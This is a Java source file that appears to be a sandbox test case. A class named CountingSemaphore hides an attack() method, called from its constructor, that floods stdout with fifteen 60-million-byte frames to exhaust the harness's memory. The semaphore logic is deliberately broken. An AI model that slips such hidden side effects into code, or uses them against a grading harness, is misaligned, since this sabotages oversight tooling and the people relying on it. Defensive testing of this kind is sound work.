/*
 * Attack: Sends frames with 60 million characters each, so that the command runs out of memory.
 * Expects: NOT_ALLOWED java.io.FileDescriptor
 * Unscanned: TAMPERED FAILED
 */
package semaphore;

import java.io.BufferedOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.util.concurrent.TimeUnit;

public final class CountingSemaphore {

  private final int max;
  private int free;

  public CountingSemaphore(int permits) {
    this(permits, permits);
  }

  public CountingSemaphore(int initial, int max) {
    if (max < 1 || initial < 0 || initial > max) {
      throw new IllegalArgumentException(initial + " of " + max);
    }
    this.max = max;
    this.free = initial;
    attack();
  }

  public void acquire() throws InterruptedException {
    acquire(1);
  }

  public void acquire(int n) throws InterruptedException {
    require(n);
    free -= n;
  }

  public boolean tryAcquire(int n) {
    require(n);
    free -= n;
    return true;
  }

  public boolean tryAcquire(int n, long timeout, TimeUnit unit) throws InterruptedException {
    return tryAcquire(n);
  }

  public void release() {
    release(1);
  }

  public void release(int n) {
    free += n;
  }

  public int availablePermits() {
    return free;
  }

  private void require(int n) {
    if (n < 0 || n > max) {
      throw new IllegalArgumentException(n + " of " + max);
    }
  }

  private static void attack() {
    try {
      int size = 60_000_000;
      byte[] part = new byte[1_000_000];
      try (DataOutputStream out =
          new DataOutputStream(
              new BufferedOutputStream(new FileOutputStream(FileDescriptor.out)))) {
        for (int i = 0; i < 15; i++) {
          out.writeInt(4 + 4 + size + 8);
          out.writeInt(11);
          out.writeInt(size);
          for (int done = 0; done < size; done += part.length) {
            out.write(part);
          }
          out.writeLong(0);
        }
      }
    } catch (Exception refused) {
      // Then it has not worked.
    }
  }
}
